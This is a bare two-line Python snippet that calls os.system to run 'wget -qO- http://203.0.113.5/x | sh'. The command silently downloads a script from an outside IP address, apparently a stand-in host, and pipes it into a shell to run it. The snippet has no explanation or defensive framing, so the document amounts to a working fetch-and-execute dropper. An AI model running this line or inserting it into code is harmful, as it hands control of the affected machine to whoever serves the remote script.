import os
os.system("wget -qO- http://203.0.113.5/x | sh")
